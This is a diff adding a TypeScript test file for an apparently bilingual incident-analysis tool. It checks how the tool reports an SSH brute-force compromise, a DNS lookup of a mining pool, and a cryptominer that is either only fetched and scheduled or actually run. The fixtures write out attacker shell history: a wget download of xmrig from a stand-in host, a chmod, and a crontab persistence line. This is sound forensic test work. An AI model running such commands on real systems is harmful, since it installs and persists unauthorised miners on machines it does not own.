@@ -1,0 +1,50 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { AnswerSheet } from "@stanch/model/answer";
+import { answerToFiles, guessingLines } from "./reading.testkit.ts";
+
+const bad = "203.0.113.9";
+
+/** The answer to root's guessed password and a history of commands, one a minute from 09:02 on. */
+function typed(...commands: readonly string[]): Promise<AnswerSheet> {
+  const start = Date.parse("2026-03-01T09:02:00Z") / 1000;
+  return answerToFiles({
+    "var/log/auth.log":
+      guessingLines("2026-03-01T09:00", bad, "root") +
+      `2026-03-01T09:01:00.000000+00:00 web-01 sshd[1000]: Accepted password for root from ${bad} port 41000 ssh2\n`,
+    "root/.bash_history": commands.map((command, at) => `#${start + at * 60}\n${command}\n`).join(""),
+  });
+}
+
+const statements = (answer: AnswerSheet): string =>
+  answer.threads
+    .flatMap((thread) => thread.steps.map(({ statement }) => `${statement.zh}\n${statement.en}`))
+    .join("\n");
+
+test("a miner that was fetched, prepared and scheduled is not said to have run", async () => {
+  const answer = await typed(
+    "wget -q http://203.0.113.80/xmrig -O /var/tmp/.cache/xmrig",
+    "chmod +x /var/tmp/.cache/xmrig",
+    "echo '* * * * * /var/tmp/.cache/xmrig -o stratum+tcp://p.example:1' | crontab -",
+  );
+  const said = `${statements(answer)}\n${answer.summary.zh}\n${answer.summary.en}`;
+  assert.doesNotMatch(said, /运行挖矿|cryptominer run|ran a cryptominer/i);
+  assert.match(said, /下载工具[^\n]*xmrig[^]*Tool fetched[^\n]*xmrig/);
+  assert.equal(said.match(/Tool fetched/g)?.length, 1);
+  assert.match(said, /计划任务[^\n]*xmrig/);
+  assert.ok(!answer.recommended.some((row) => row.measure.en.includes("mining process")));
+});
+
+test("a miner that ran is said to have run", async () => {
+  const answer = await typed("/var/tmp/.cache/xmrig -o stratum+tcp://p.example:1 -B");
+  assert.match(statements(answer), /运行挖矿程序[^]*Cryptominer run/);
+  assert.match(answer.summary.en, /ran a cryptominer/);
+});
+
+test("a host that only asked for the name of a pool is suspected, and the sentence says what it did", async () => {
+  const query = `{"timestamp":"2026-03-01T02:14:07.000000+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.5","src_port":5353,"dest_ip":"10.0.0.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":1,"rrname":"pool.minexmr.com","rrtype":"A"}}\n`;
+  const answer = await answerToFiles({ "eve.json": query });
+  assert.equal(answer.verdict, "suspected");
+  assert.equal(answer.type.key, "MAL-08");
+  assert.match(statements(answer), /查询矿池域名[^]*Name of a mining pool looked up/);
+});
